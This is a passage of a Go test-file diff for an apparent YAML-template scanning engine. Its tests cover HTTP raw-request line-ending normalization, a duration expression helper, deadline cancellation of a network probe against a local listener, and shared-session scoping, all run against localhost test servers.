+	if len(parsed.Headers) != 2 || parsed.Headers[1] != [2]string{"X-A", "1"} {
+		t.Errorf("Expected the head line endings to be normalized, got %v", parsed.Headers)
+	}
+}
+
+func TestNormalizeUnsafeRaw(t *testing.T) {
+	tests := []struct {
+		raw  string
+		want string
+	}{
+		{"GET / HTTP/1.1\nHost: a\n", "GET / HTTP/1.1\r\nHost: a\r\n\r\n"},
+		{"POST / HTTP/1.1\nHost: a\n\nx=1\ny=2\n", "POST / HTTP/1.1\r\nHost: a\r\n\r\nx=1\ny=2\n"},
+		{"GET / HTTP/1.1\r\nHost: a\r\n\r\n", "GET / HTTP/1.1\r\nHost: a\r\n\r\n"},
+	}
+
+	for _, tt := range tests {
+		if got := normalizeUnsafeRaw(tt.raw); got != tt.want {
+			t.Errorf("normalizeUnsafeRaw(%q) = %q, want %q", tt.raw, got, tt.want)
+		}
+	}
+}
+
+func TestDurationHelperAndResponseTime(t *testing.T) {
+	poc := &YAMLPOC{}
+	env := newEnv()
+	env[responseTimeVariable] = 0.5
+
+	tests := []struct {
+		expr     string
+		expected interface{}
+	}{
+		{`duration`, 0.5},
+		{`duration("250ms")`, 0.25},
+		{`duration >= duration("250ms")`, true},
+		{`duration("1s") > duration`, true},
+		{`[duration][0]`, 0.5},
+	}
+
+	for _, tt := range tests {
+		result, err := poc.evalExpression(tt.expr, env)
+		if err != nil {
+			t.Errorf("Failed to evaluate %s: %v", tt.expr, err)
+			continue
+		}
+		if result != tt.expected {
+			t.Errorf("%s: expected %v, got %v", tt.expr, tt.expected, result)
+		}
+	}
+
+	if _, err := poc.evalExpression(`duration("soon")`, env); err == nil {
+		t.Error("Expected an error for an invalid duration")
+	}
+}
+
+func TestExecuteNetworkContextCancel(t *testing.T) {
+	listener, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatalf("Failed to listen: %v", err)
+	}
+	defer listener.Close()
+
+	// Accept the connection and never answer.
+	go func() {
+		for {
+			conn, err := listener.Accept()
+			if err != nil {
+				return
+			}
+			defer conn.Close()
+		}
+	}()
+
+	_, port, _ := net.SplitHostPort(listener.Addr().String())
+
+	poc, err := Parse(`
+info:
+  name: Silent service
+network:
+  - port: "` + port + `"
+    inputs:
+      - data: "PING\r\n"
+    matchers:
+      - type: word
+        words:
+          - "PONG"
+`)
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
+	defer cancel()
+
+	start := time.Now()
+	matched, _, err := poc.ExecuteContext(ctx, "http://127.0.0.1", nil)
+	if !errors.Is(err, context.DeadlineExceeded) {
+		t.Fatalf("Expected deadline exceeded, got matched=%v err=%v", matched, err)
+	}
+	if elapsed := time.Since(start); elapsed > 2*time.Second {
+		t.Errorf("Expected the read to stop at the deadline, took %v", elapsed)
+	}
+}
+
+func TestSharedSessionsContext(t *testing.T) {
+	server := newSessionTestServer()
+	defer server.Close()
+	defer ClearSharedSessions()
+
+	login, err := Parse(`
+info:
+  name: Login
+shared-session: true
+requests:
+  - method: GET
+    path: /login
+`)
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	admin, err := Parse(`
+info:
+  name: Admin panel
+shared-session: true
+requests:
+  - method: GET
+    path: /admin
+    matchers:
+      - type: word
+        words:
+          - "Welcome, admin"
+`)
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	scan := WithSharedSessions(context.Background())
+	if _, _, err := login.ExecuteContext(scan, server.URL, nil); err != nil {
+		t.Fatalf("Failed to execute login: %v", err)
+	}
+
+	tests := []struct {
+		name     string
+		ctx      context.Context
+		expected bool
+	}{
+		{"same context", scan, true},
+		{"context of its own", WithSharedSessions(context.Background()), false},
+		{"process-wide", context.Background(), false},
+	}
+
+	for _, tt := range tests {
+		matched, _, err := admin.ExecuteContext(tt.ctx, server.URL, nil)
+		if err != nil {
+			t.Fatalf("%s: failed to execute admin: %v", tt.name, err)
+		}
+		if matched != tt.expected {
+			t.Errorf("%s: expected matched %v, got %v", tt.name, tt.expected, matched)
+		}
+	}
+}